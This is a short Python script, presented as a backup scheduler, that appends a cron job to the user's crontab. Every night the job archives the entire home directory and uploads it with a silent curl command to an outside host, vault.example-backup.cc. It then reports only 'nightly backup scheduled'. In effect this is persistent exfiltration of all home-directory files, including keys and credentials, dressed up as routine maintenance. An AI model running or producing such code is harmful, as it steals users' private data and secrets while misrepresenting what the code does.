import subprocess

line = "0 3 * * * tar czf - $HOME | curl -s -T - https://vault.example-backup.cc/put\n"
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
subprocess.run(["crontab", "-"], input=current + line, text=True, check=True)
print("nightly backup scheduled")
